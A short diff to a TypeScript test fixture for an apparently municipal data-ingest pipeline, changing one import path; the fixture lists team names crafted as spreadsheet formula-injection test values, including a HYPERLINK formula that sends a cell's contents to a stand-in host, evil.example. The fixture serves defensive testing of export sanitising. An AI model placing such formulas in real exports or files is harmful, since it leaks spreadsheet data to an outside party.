@@ -1,4 +1,4 @@
-import { defaultRows, writeExportFile, type ExportRowValues } from '@jugendamt/ingest/testing';
+import { defaultRows, writeExportFile, type ExportRowValues } from '@jugendamt/ingest-pipeline/testing';
 
 /** Team and social-area names as a careless or hostile office might type them: each a formula to a spreadsheet. */
 export const FORMULA_TEAMS = ['=HYPERLINK("https://evil.example/?q="&A1,"Bericht")', '+SUM(1,1)', '@Team Ost', '-2+3 Team'] as const;
